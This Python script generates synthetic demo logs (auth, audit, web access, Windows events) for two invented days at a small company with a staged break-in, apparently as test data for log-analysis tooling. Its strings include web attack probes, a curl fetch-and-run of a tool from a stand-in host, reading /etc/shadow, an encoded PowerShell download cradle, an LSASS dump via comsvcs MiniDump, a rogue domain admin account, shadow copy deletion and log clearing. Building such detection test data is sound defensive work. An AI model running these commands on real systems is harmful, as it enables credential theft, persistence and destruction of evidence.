#!/usr/bin/env python3
"""Writes the four logs of testdata/demo: two invented days of a small company, and one break-in amid them.

demo/README.md tells the story. Every name, address, key and hash is made up; addresses are those of RFC 5737 and
RFC 3849. The numbers come from a fixed seed, so that a second run writes the same bytes:

    python3 testdata/demo.py
"""
import hashlib
import json
import pathlib
import random
from datetime import datetime, timedelta, timezone

FOLDER = pathlib.Path(__file__).parent / "demo"
FIRST = datetime(2026, 3, 9, 6, 0, tzinfo=timezone.utc)
LAST = datetime(2026, 3, 10, 18, 0, tzinfo=timezone.utc)
dice = random.Random(20260310)

INTRUDER = "203.0.113.50"
SCANNER = "203.0.113.77"
TOOLS = "198.51.100.7"
WEB, FILES, DOMAIN, BUILD = "192.0.2.10", "192.0.2.20", "192.0.2.21", "192.0.2.22"
PCS = {"PC-03": ("192.0.2.33", "karl"), "PC-05": ("192.0.2.35", "ben"), "PC-07": ("192.0.2.37", "anna")}

logs = {"auth.log": [], "access.log": [], "audit.log": [], "windows.jsonl": []}


def at(text, day=10):
    """`03:12:07` or `03:12:07.5` of the given day of March 2026."""
    hours, minutes, seconds = text.split(":")
    return datetime(2026, 3, day, tzinfo=timezone.utc) + timedelta(
        hours=int(hours), minutes=int(minutes), seconds=float(seconds)
    )


def write(name, time, text):
    logs[name].append((time, len(logs[name]), text))


def every(start, step_minutes, spread_minutes=0):
    """Times from `start` to the end, a step apart, each shifted by up to the spread."""
    time = start
    while time < LAST:
        yield time + timedelta(seconds=dice.randint(0, spread_minutes * 60)) if spread_minutes else time
        time += timedelta(minutes=step_minutes)


def working(time):
    return time.weekday() < 5 and 7 <= time.hour < 17


# ---- web-01: the web server's access log ---------------------------------------------------------------------------

BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:128.0) Gecko/20100101 Firefox/128.0",
]
CRAWLER = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/)"
SEARCHES = ["running+shoes", "shoes%20size%2042", "union+jack+socks", "drop+table+lamp", "o%27neill+jacket", "select+boots"]


def get(time, address, target, status=200, size=None, agent=None, referer="-", method="GET"):
    size = dice.randint(400, 9000) if size is None else size
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
    agent = BROWSERS[0] if agent is None else agent
    write("access.log", time, f'{address} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"')


def visitors():
    home = "https://shop.example.org"
    for start in every(FIRST, 9, 8):
        if not 5 <= start.hour < 23 and dice.random() < 0.6:
            continue
        address = dice.choice(
            [f"198.51.100.{dice.randint(100, 250)}", f"203.0.113.{dice.randint(120, 250)}", f"2001:db8:{dice.randint(1, 999):x}::{dice.randint(2, 60):x}"]
        )
        agent = dice.choice(BROWSERS)
        time, referer = start, "-"
        for number in range(dice.randint(2, 7)):
            target = dice.choice(["/", "/shop", f"/shop/item?id={dice.randint(1, 90)}", "/contact", f"/search?q={dice.choice(SEARCHES)}&page={dice.randint(1, 4)}", "/shop/cart"])
            get(time, address, target, 200, agent=agent, referer=referer)
            if number == 0:
                get(time + timedelta(seconds=1), address, "/css/site.css", dice.choice([200, 304]), agent=agent, referer=home + "/")
                get(time + timedelta(seconds=1), address, "/img/logo.png", dice.choice([200, 304]), agent=agent, referer=home + "/")
            referer = home + target
            time += timedelta(seconds=dice.randint(4, 70))
        if dice.random() < 0.08:
            get(time, address, "/login", 302, 0, agent, home + "/login", "POST")
    for time in every(FIRST, 34, 12):
        get(time, "198.51.100.40", dice.choice(["/robots.txt", "/shop", "/sitemap.xml", f"/shop/item?id={dice.randint(1, 90)}", "/old-page"]), dice.choice([200, 200, 200, 404]), agent=CRAWLER)
    for time in every(FIRST + timedelta(seconds=20), 10):
        get(time, BUILD, "/health", 200, 15, "shop-monitor/1.4")


def scanner():
    """Half past two: somebody tries the usual doors of the web server. None opens."""
    doors = [
        "/.env", "/.git/config", "/wp-login.php", "/wp-config.php.bak", "/phpmyadmin/", "/admin.php", "/backup.zip", "/server-status",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fpasswd", "/shop/item?id=1%27%20OR%20%271%27=%271",
        "/shop/item?id=1%20UNION%20SELECT%20NULL,NULL--", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/manager/html", "/solr/admin/",
        "/boaform/admin/formLogin", "/HNAP1", "/config.json", "/id_rsa", "/.aws/credentials", "/dump.sql", "/shell.php", "/api/v1/pods",
    ]
    time = at("02:31:04")
    for number, door in enumerate(doors * 2):
        refused = 403 if "%" in door or ".." in door else 404
        get(time, SCANNER, door, refused, 153, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)")
        time += timedelta(seconds=2 + number % 5)


# ---- web-01: auth.log ----------------------------------------------------------------------------------------------

def auth(time, program, text, pid=None):
    tag = program if pid is None else f"{program}[{pid}]"
    stamp = f"{time:%b} {time.day:2d} {time:%H:%M:%S}"
    write("auth.log", time, f"{stamp} web-01 {tag}: {text}")


def key_login(time, user, address, pid, session, minutes, number):
    port = 40000 + pid
    auth(time, "sshd", f"Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:{hashlib.sha256(user.encode()).hexdigest()[:43]}", pid)
    auth(time, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={number}) by (uid=0)", pid)
    auth(time, "systemd-logind", f"New session {session} of user {user}.", 612)
    end = time + timedelta(minutes=minutes)
    auth(end, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
    auth(end, "systemd-logind", f"Removed session {session}.", 612)


def sudo(time, user, command, terminal="pts/0", number=1000):
    auth(time, "sudo", f"{user:>8} : TTY={terminal} ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
    auth(time, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={number})")
    auth(time + timedelta(seconds=2), "sudo", "pam_unix(sudo:session): session closed for user root")


def daily_auth():
    pid, session = 2000, 100
    for time in every(FIRST.replace(minute=17) + timedelta(seconds=1), 60):
        pid += 3
        auth(time, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
        auth(time, "CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", pid + 1)
        auth(time, "CRON", "pam_unix(cron:session): session closed for user root", pid)
    for time in every(FIRST + timedelta(minutes=5, seconds=1), 30):
        pid += 2
        auth(time, "CRON", "(shop) CMD (/usr/bin/php /srv/shop/cron.php >/dev/null 2>&1)", pid)
    for day in (9, 10):
        # Karl looks after the server; ben mistypes his password; the build machine deploys with its key.
        for clock, minutes, commands in (
            ("08:03:05", 22, ["/usr/bin/apt update", "/usr/bin/apt list --upgradable"]),
            ("13:52:05", 9, ["/usr/bin/systemctl reload nginx", "/usr/bin/tail -n 50 /var/log/nginx/error.log"]),
        ):
            pid, session = pid + 5, session + 1
            key_login(at(clock, day), "karl", PCS["PC-03"][0], pid, session, minutes, 1000)
            for number, command in enumerate(commands):
                sudo(at(clock, day) + timedelta(minutes=2 + 3 * number), "karl", command)
        pid, session = pid + 5, session + 1
        auth(at("09:14:31", day), "sshd", f"Failed password for ben from {PCS['PC-05'][0]} port 50{pid % 1000:03d} ssh2", pid)
        auth(at("09:14:39", day), "sshd", f"Accepted password for ben from {PCS['PC-05'][0]} port 50{pid % 1000:03d} ssh2", pid)
        auth(at("09:14:39", day), "sshd", "pam_unix(sshd:session): session opened for user ben(uid=1002) by (uid=0)", pid)
        auth(at("09:31:02", day), "sshd", "pam_unix(sshd:session): session closed for user ben", pid)
        pid, session = pid + 5, session + 1
        key_login(at("15:40:12", day), "deploy", BUILD, pid, session, 1, 1001)
        sudo(at("15:40:20", day), "deploy", "/usr/bin/systemctl restart shop", "unknown", 1001)
    auth(at("10:20:41", 9), "crontab", "(karl) LIST (karl)", pid + 1)
    # The daily weather of an open ssh port.
    for time in every(FIRST + timedelta(minutes=41), 190, 100):
        if at("02:20:00") < time < at("04:00:00"):
            continue
        pid += 4
        address = f"203.0.113.{dice.randint(1, 40)}"
        name = dice.choice(["pi", "ubnt", "guest", "ftpuser"])
        auth(time, "sshd", f"Invalid user {name} from {address} port {dice.randint(30000, 60000)}", pid)
        auth(time + timedelta(seconds=2), "sshd", f"Connection closed by invalid user {name} {address} port {dice.randint(30000, 60000)} [preauth]", pid)


def break_in_auth():
    time, pid = at("02:58:06"), 4400
    for number in range(84):
        user = ["root", "admin", "oracle", "test", "deploy", "ubuntu", "deploy"][number % 7]
        pid += 1
        port = 51000 + number
        if user in ("root", "deploy"):
            auth(time, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={INTRUDER}  user={user}", pid)
            auth(time + timedelta(seconds=2), "sshd", f"Failed password for {user} from {INTRUDER} port {port} ssh2", pid)
        else:
            auth(time, "sshd", f"Invalid user {user} from {INTRUDER} port {port}", pid)
            auth(time + timedelta(seconds=2), "sshd", f"Failed password for invalid user {user} from {INTRUDER} port {port} ssh2", pid)
        time += timedelta(seconds=10)
    auth(at("03:12:07"), "sshd", f"Accepted password for deploy from {INTRUDER} port 51222 ssh2", 4511)
    auth(at("03:12:07"), "sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", 4511)
    auth(at("03:12:07"), "systemd-logind", "New session 77 of user deploy.", 612)
    auth(at("03:14:02"), "sudo", "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
    auth(at("03:14:02"), "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
    for number, time in enumerate(every(at("03:20:01"), 20)):
        auth(time, "CRON", "(root) CMD (/dev/shm/.kw >/dev/null 2>&1)", 4600 + number)
    auth(at("03:58:40"), "sshd", "pam_unix(sshd:session): session closed for user deploy", 4511)
    auth(at("03:58:40"), "systemd-logind", "Removed session 77.", 612)


# ---- web-01: audit.log ---------------------------------------------------------------------------------------------

audited = []


def argument(text):
    plain = all(33 <= ord(letter) < 127 and letter != '"' for letter in text)
    return f'"{text}"' if plain else text.encode().hex().upper()


def audit(time, *records):
    audited.append((time, len(audited), records))


def number_audit():
    """The kernel numbers its events in the order of time."""
    for serial, (time, _, records) in enumerate(sorted(audited), 7001):
        for kind, text in records:
            write("audit.log", time, f"node=web-01 type={kind} msg=audit({time.timestamp():.3f}:{serial}): {text}")
        write("audit.log", time, f"node=web-01 type=EOE msg=audit({time.timestamp():.3f}:{serial}): ")


def syscall(number, name, exe, pid, parent, user, login, session, key, terminal="(none)", comm=None, extra="a0=55d0c1e0 a1=55d0c200 a2=55d0c260 a3=8", items=2):
    users = {"root": 0, "karl": 1000, "deploy": 1001, "ben": 1002, "shop": 998}
    uid = users[user]
    auid = users[login] if login else 4294967295
    comm = comm or exe.rsplit("/", 1)[1]
    return (
        "SYSCALL",
        f'arch=c000003e syscall={number} success=yes exit=0 {extra} items={items} ppid={parent} pid={pid} auid={auid} uid={uid} gid={uid} '
        f'euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={terminal} ses={session} comm="{comm}" exe="{exe}" '
        f'subj=unconfined key="{key}" SYSCALL={name} AUID="{login or "unset"}" UID="{user}" GID="{user}" EUID="{user}"',
    )


def run(time, exe, arguments, pid, parent, user, login=None, session=4294967295, cwd="/", terminal="(none)"):
    words = " ".join(f"a{number}={argument(word)}" for number, word in enumerate(arguments))
    audit(
        time,
        syscall(59, "execve", exe, pid, parent, user, login, session, "exec", terminal),
        ("EXECVE", f"argc={len(arguments)} {words}"),
        ("CWD", f'cwd="{cwd}"'),
        ("PATH", f'item=0 name="{exe}" inode=2211 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
        ("PATH", 'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=88 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
        ("PROCTITLE", "proctitle=" + "\0".join(arguments).encode().hex().upper()[:256]),
    )


def create(time, path, exe, pid, parent, user, login, session, terminal="pts1"):
    folder = path.rsplit("/", 1)[0] + "/"
    audit(
        time,
        syscall(257, "openat", exe, pid, parent, user, login, session, "persist", terminal, extra="a0=ffffff9c a1=55d0c1e0 a2=241 a3=1b6"),
        ("CWD", 'cwd="/root"'),
        ("PATH", f'item=0 name="{folder}" inode=131 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT'),
        ("PATH", f'item=1 name="{path}" inode=9412 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE'),
    )


def connect(time, address, port, exe, pid, parent, user, login, session):
    place = "".join(f"{int(part):02X}" for part in address.split("."))
    audit(
        time,
        syscall(42, "connect", exe, pid, parent, user, login, session, "net", extra="a0=5 a1=7ffd1a20 a2=10 a3=0", items=0),
        ("SOCKADDR", f"saddr=0200{port:04X}{place}0000000000000000 SADDR={{ saddr_fam=inet laddr={address} lport={port} }}"),
    )


def daily_audit():
    pid = 20000
    for time in every(FIRST.replace(minute=17) + timedelta(seconds=1), 60):
        pid += 7
        run(time, "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"], pid, 800, "root")
    for time in every(FIRST + timedelta(minutes=5, seconds=1), 30):
        pid += 5
        run(time, "/usr/bin/php8.2", ["/usr/bin/php", "/srv/shop/cron.php"], pid, 801, "shop")
    for day in (9, 10):
        for clock, words in (
            ("08:04:00", ["df", "-h"]), ("08:05:06", ["apt", "update"]), ("08:08:06", ["apt", "list", "--upgradable"]),
            ("08:12:40", ["less", "/var/log/syslog"]), ("13:54:06", ["systemctl", "reload", "nginx"]),
            ("13:57:06", ["tail", "-n", "50", "/var/log/nginx/error.log"]), ("13:58:11", ["curl", "-fsS", "http://127.0.0.1/health"]),
            ("13:59:02", ["grep", "-c", "password", "/srv/shop/README.md"]),
        ):
            pid += 3
            root = words[0] in ("apt", "systemctl", "tail")
            run(at(clock, day), f"/usr/bin/{words[0]}", words, pid, 1200, "root" if root else "karl", "karl", 101 if day == 9 else 103, "/home/karl", "pts0")
        run(at("06:25:02", day), "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], pid + 1, 802, "root")
        run(at("12:00:09", day), "/usr/bin/certbot", ["certbot", "renew", "-q"], pid + 2, 1, "root")
        run(at("15:40:20", day), "/usr/bin/systemctl", ["systemctl", "restart", "shop"], pid + 3, 1203, "root", "deploy", 107, "/home/deploy")


def break_in_audit():
    deploy = dict(user="deploy", login="deploy", session=77, cwd="/home/deploy", terminal="pts1")
    root = dict(user="root", login="deploy", session=77, cwd="/root", terminal="pts1")
    run(at("03:12:08.2"), "/usr/bin/bash", ["-bash"], 4513, 4511, **deploy)
    run(at("03:12:41.7"), "/usr/bin/id", ["id"], 4520, 4513, **deploy)
    run(at("03:12:50.1"), "/usr/bin/uname", ["uname", "-a"], 4521, 4513, **deploy)
    run(at("03:13:22.9"), "/usr/bin/find", ["find", "/", "-perm", "-4000", "-type", "f"], 4523, 4513, **deploy)
    run(at("03:14:02.4"), "/usr/bin/sudo", ["sudo", "/bin/bash"], 4530, 4513, **deploy)
    run(at("03:14:02.6"), "/usr/bin/bash", ["/bin/bash"], 4531, 4530, **root)
    run(at("03:15:10.3"), "/usr/bin/curl", ["curl", "-fsSo", "/dev/shm/.kw", f"http://{TOOLS}/kw"], 4540, 4531, **root)
    run(at("03:15:19.0"), "/usr/bin/chmod", ["chmod", "755", "/dev/shm/.kw"], 4542, 4531, **root)
    run(at("03:15:24.8"), "/dev/shm/.kw", ["/dev/shm/.kw"], 4543, 4531, **root)
    connect(at("03:15:25.1"), TOOLS, 443, "/dev/shm/.kw", 4543, 4531, "root", "deploy", 77)
    create(at("03:17:30.5"), "/etc/cron.d/kw", "/usr/bin/bash", 4531, 4530, "root", "deploy", 77)
    run(at("03:19:12.4"), "/usr/bin/grep", ["grep", "-rni", "password", "/srv/shop/config"], 4550, 4531, **root)
    run(at("03:19:40.0"), "/usr/bin/cat", ["cat", "/srv/shop/config/backup.env"], 4552, 4531, **root)
    run(at("03:20:31.2"), "/usr/bin/cat", ["cat", "/etc/shadow"], 4553, 4531, **root)
    connect(at("03:24:58.6"), FILES, 445, "/dev/shm/.kw", 4543, 4531, "root", "deploy", 77)
    for number, time in enumerate(every(at("03:20:01.3"), 20)):
        run(time, "/dev/shm/.kw", ["/dev/shm/.kw"], 4700 + number, 4600 + number, "root")


# ---- Windows -------------------------------------------------------------------------------------------------------

SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SYSTEM = ("System", "Service Control Manager")
recorded = []


def windows(time, host, channel, event, **data):
    recorded.append((time, len(recorded), host, channel, event, data))


def number_windows():
    """Each channel of each host numbers its own records."""
    last = {}
    for time, _, host, (channel, provider), event, data in sorted(recorded, key=lambda one: one[:2]):
        last[host, channel] = last.get((host, channel), 91000) + 1
        head = {
            "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:03d}Z",
            "Channel": channel, "EventID": event, "ProviderName": provider, "Hostname": f"{host}.example.org",
            "EventRecordID": last[host, channel],
        }
        write("windows.jsonl", time, json.dumps(head | data, separators=(",", ":")))


def guid(*parts):
    digest = hashlib.md5("/".join(map(str, parts)).encode()).hexdigest().upper()
    return f"{{{digest[:8]}-{digest[8:12]}-{digest[12:16]}-{digest[16:20]}-{digest[20:]}}}"


def hashes(image):
    return f"MD5={hashlib.md5(image.encode()).hexdigest().upper()},SHA256={hashlib.sha256(image.encode()).hexdigest().upper()}"


def start(time, host, image, command, pid, parent, parent_command, parent_pid, user, logon, level="Medium"):
    windows(
        time, host, SYSMON, 1, UtcTime=time.strftime("%Y-%m-%d %H:%M:%S.000"), ProcessGuid=guid(host, image, pid), ProcessId=pid, Image=image,
        CommandLine=command, CurrentDirectory="C:\\Windows\\system32\\", User=user, LogonId=logon, IntegrityLevel=level, Hashes=hashes(image),
        ParentProcessGuid=guid(host, parent, parent_pid), ParentProcessId=parent_pid, ParentImage=parent, ParentCommandLine=parent_command,
    )


def logon(time, host, user, kind, logon_id, address="-", workstation="-", package="Negotiate", minutes=None, domain="EXAMPLE"):
    windows(
        time, host, SECURITY, 4624, SubjectUserName="-", SubjectLogonId="0x0", TargetUserName=user, TargetDomainName=domain,
        TargetLogonId=logon_id, LogonType=kind, LogonProcessName="NtLmSsp " if package == "NTLM" else "User32 " if kind == 2 else "Kerberos",
        AuthenticationPackageName=package, WorkstationName=workstation, IpAddress=address, IpPort=0 if address == "-" else 49152 + len(recorded) % 9000,
    )
    if minutes is not None:
        windows(time + timedelta(minutes=minutes), host, SECURITY, 4634, TargetUserName=user, TargetDomainName=domain, TargetLogonId=logon_id, LogonType=kind)


EXPLORER = "C:\\Windows\\explorer.exe"
SERVICES = "C:\\Windows\\System32\\services.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SYS32 = "C:\\Windows\\System32\\"
OFFICE = [
    ("C:\\Windows\\System32\\notepad.exe", "notes.txt"), ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", ""),
    ("C:\\Program Files\\LibreOffice\\program\\soffice.exe", "--writer"), ("C:\\Program Files\\LibreOffice\\program\\soffice.exe", "--calc"),
    ("C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe", ""), ("C:\\Windows\\System32\\mspaint.exe", ""),
]


def office():
    pid = 3000
    for day in (9, 10):
        for number, (host, (address, user)) in enumerate(PCS.items()):
            morning = at(f"07:{12 + 9 * number}:14", day)
            identity = f"0x{0x41200 + day * 4096 + number * 771:x}"
            if user == "ben":
                windows(morning - timedelta(seconds=11), host, SECURITY, 4625, TargetUserName="ben", TargetDomainName="EXAMPLE", Status="0xc000006d", SubStatus="0xc000006a", LogonType=2, WorkstationName=host, IpAddress="127.0.0.1", SubjectLogonId="0x3e7")
            logon(morning, host, user, 2, identity, "127.0.0.1", host, minutes=570)
            logon(morning + timedelta(seconds=3), "dc-01", user, 3, f"0x{0x71200 + day * 4096 + number * 771:x}", address, "-", "Kerberos", minutes=12)
            logon(morning + timedelta(minutes=4), "fs-01", user, 3, f"0x{0x81200 + day * 4096 + number * 771:x}", address, "-", "Kerberos", minutes=540)
            time = morning + timedelta(minutes=2)
            while working(time) and time < LAST:
                image, words = dice.choice(OFFICE)
                pid += 4 * dice.randint(1, 9)
                start(time, host, image, f'"{image}" {words}'.strip(), pid, EXPLORER, EXPLORER, 2200 + number, f"EXAMPLE\\{user}", identity)
                time += timedelta(minutes=dice.randint(6, 30))
    for time in every(FIRST + timedelta(minutes=7), 120, 5):
        for host in ("fs-01", "dc-01", "PC-03", "PC-05", "PC-07"):
            if host.startswith("PC") and not working(time):
                continue
            pid += 8
            logon(time, host, "SYSTEM", 5, "0x3e7", domain="NT AUTHORITY")
            start(time + timedelta(seconds=2), host, SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s Schedule", pid, SERVICES, SERVICES, 612, "NT AUTHORITY\\SYSTEM", "0x3e7", "System")
    for day in (9, 10):
        # The nightly copy: the build machine signs in as svc-backup and asks, without harm, which shadow copies there are.
        if day == 10:
            logon(at("02:00:03", day), "fs-01", "svc-backup", 3, "0x4f10a2", BUILD, "BUILD-01", "Kerberos", minutes=22)
            start(at("02:00:09", day), "fs-01", SYS32 + "vssadmin.exe", "vssadmin.exe list shadows", 5120, "C:\\Program Files\\Backup\\agent.exe", '"C:\\Program Files\\Backup\\agent.exe" --nightly', 1804, "NT AUTHORITY\\SYSTEM", "0x3e7", "System")
            start(at("02:00:15", day), "fs-01", "C:\\Program Files\\Backup\\copy.exe", '"C:\\Program Files\\Backup\\copy.exe" D:\\Shares E:\\Nightly', 5124, "C:\\Program Files\\Backup\\agent.exe", '"C:\\Program Files\\Backup\\agent.exe" --nightly', 1804, "NT AUTHORITY\\SYSTEM", "0x3e7", "System")
        start(at("08:30:00", day), "PC-03", POWERSHELL, "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", 6100 + day, EXPLORER, EXPLORER, 2200, "EXAMPLE\\karl", "0x4a200", "High")
        windows(at("11:05:40", day), "PC-07", SYSTEM, 7045, ServiceName="MozillaMaintenance", ImagePath='"C:\\Program Files (x86)\\Mozilla Maintenance Service\\maintenanceservice.exe"', ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem")
    # A new colleague, made by daylight by the administrator at his own desk.
    logon(at("10:14:50", 9), "dc-01", "adm-karl", 3, "0x9c1120", PCS["PC-03"][0], "PC-03", "Kerberos", minutes=15)
    windows(at("10:15:30", 9), "dc-01", SECURITY, 4720, TargetUserName="nina", TargetDomainName="EXAMPLE", TargetSid="S-1-5-21-1111-2222-3333-1121", SubjectUserName="adm-karl", SubjectDomainName="EXAMPLE", SubjectLogonId="0x9c1120", SamAccountName="nina")
    windows(at("10:15:52", 9), "dc-01", SECURITY, 4728, MemberName="CN=nina,OU=Staff,DC=example,DC=org", MemberSid="S-1-5-21-1111-2222-3333-1121", TargetUserName="Staff", TargetDomainName="EXAMPLE", SubjectUserName="adm-karl", SubjectDomainName="EXAMPLE", SubjectLogonId="0x9c1120")


def break_in_windows():
    identity = "0x5a2c91"
    logon(at("03:25:03.4"), "fs-01", "svc-backup", 3, identity, WEB, "WEB-01", "NTLM")
    windows(at("03:25:03.4"), "fs-01", SECURITY, 4672, SubjectUserName="svc-backup", SubjectDomainName="EXAMPLE", SubjectLogonId=identity, PrivilegeList="SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege")
    windows(at("03:25:20.1"), "fs-01", SECURITY, 5140, SubjectUserName="svc-backup", SubjectDomainName="EXAMPLE", SubjectLogonId=identity, IpAddress=WEB, IpPort=40212, ShareName="\\\\*\\ADMIN$", ShareLocalPath="\\??\\C:\\Windows")
    # What is encoded says only: IEX (New-Object Net.WebClient)
    encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    path = f"%COMSPEC% /c powershell.exe -nop -w hidden -enc {encoded}"
    windows(at("03:25:31.0"), "fs-01", SECURITY, 4697, SubjectUserName="svc-backup", SubjectDomainName="EXAMPLE", SubjectLogonId=identity, ServiceName="kwsvc", ServiceFileName=path, ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem")
    windows(at("03:25:31.2"), "fs-01", SYSTEM, 7045, ServiceName="kwsvc", ImagePath=path, ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem")
    system = dict(user="NT AUTHORITY\\SYSTEM", logon="0x3e7", level="System")
    command = f"{CMD} /c powershell.exe -nop -w hidden -enc {encoded}"
    shell = f"powershell.exe -nop -w hidden -enc {encoded}"
    start(at("03:25:33.0"), "fs-01", CMD, command, 7204, SERVICES, SERVICES, 612, **system)
    start(at("03:25:33.4"), "fs-01", POWERSHELL, shell, 7212, CMD, command, 7204, **system)
    windows(at("03:25:36.8"), "fs-01", SYSMON, 3, ProcessGuid=guid("fs-01", POWERSHELL, 7212), ProcessId=7212, Image=POWERSHELL, User=system["user"], Protocol="tcp", Initiated="true", SourceIp=FILES, SourcePort=51544, DestinationIp=TOOLS, DestinationPort=443)
    start(at("03:28:10.0"), "fs-01", SYS32 + "whoami.exe", "whoami.exe /all", 7240, POWERSHELL, shell, 7212, **system)
    start(at("03:28:31.0"), "fs-01", SYS32 + "net.exe", 'net.exe group "Domain Admins" /domain', 7244, POWERSHELL, shell, 7212, **system)
    dump = SYS32 + "rundll32.exe"
    start(at("03:33:45.0"), "fs-01", dump, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\l.dmp full", 7300, POWERSHELL, shell, 7212, **system)
    windows(at("03:33:45.6"), "fs-01", SYSMON, 10, SourceProcessGUID=guid("fs-01", dump, 7300), SourceProcessId=7300, SourceImage=dump, TargetProcessGUID=guid("fs-01", "lsass", 652), TargetProcessId=652, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1fffff", CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2d5e1", SourceUser=system["user"], TargetUser=system["user"])
    windows(at("03:33:46.1"), "fs-01", SYSMON, 11, ProcessGuid=guid("fs-01", dump, 7300), ProcessId=7300, Image=dump, TargetFilename="C:\\Windows\\Temp\\l.dmp", User=system["user"])
    admin = "0xb71f04"
    logon(at("03:38:12.7"), "dc-01", "adm-karl", 3, admin, FILES, "FS-01", "NTLM")
    windows(at("03:38:12.7"), "dc-01", SECURITY, 4672, SubjectUserName="adm-karl", SubjectDomainName="EXAMPLE", SubjectLogonId=admin, PrivilegeList="SeSecurityPrivilege SeBackupPrivilege SeDebugPrivilege SeTakeOwnershipPrivilege")
    new = dict(SubjectUserName="adm-karl", SubjectDomainName="EXAMPLE", SubjectLogonId=admin)
    sid = "S-1-5-21-1111-2222-3333-1122"
    windows(at("03:41:20.2"), "dc-01", SECURITY, 4720, TargetUserName="svc-helpdesk", TargetDomainName="EXAMPLE", TargetSid=sid, SamAccountName="svc-helpdesk", **new)
    windows(at("03:41:31.9"), "dc-01", SECURITY, 4728, MemberName="CN=svc-helpdesk,CN=Users,DC=example,DC=org", MemberSid=sid, TargetUserName="Domain Admins", TargetDomainName="EXAMPLE", TargetSid="S-1-5-21-1111-2222-3333-512", **new)
    windows(at("03:41:33.0"), "dc-01", SECURITY, 4732, MemberName="CN=svc-helpdesk,CN=Users,DC=example,DC=org", MemberSid=sid, TargetUserName="Administrators", TargetDomainName="Builtin", TargetSid="S-1-5-32-544", **new)
    start(at("03:45:00.0"), "fs-01", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", 7420, POWERSHELL, shell, 7212, **system)
    start(at("03:45:14.0"), "fs-01", SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", 7428, POWERSHELL, shell, 7212, **system)
    windows(at("03:45:14.3"), "fs-01", ("Security", "Microsoft-Windows-Eventlog"), 1102, SubjectUserName="FS-01$", SubjectDomainName="EXAMPLE", SubjectLogonId="0x3e7")
    windows(at("03:52:10.0"), "fs-01", SECURITY, 4634, TargetUserName="svc-backup", TargetDomainName="EXAMPLE", TargetLogonId=identity, LogonType=3)


def main():
    visitors()
    scanner()
    daily_auth()
    break_in_auth()
    daily_audit()
    break_in_audit()
    office()
    break_in_windows()
    number_audit()
    number_windows()
    for name, lines in logs.items():
        text = "".join(line + "\n" for time, _, line in sorted(lines) if FIRST <= time < LAST)
        (FOLDER / name).write_text(text)
        print(f"{name}: {text.count(chr(10))} lines, {len(text)} bytes")


main()
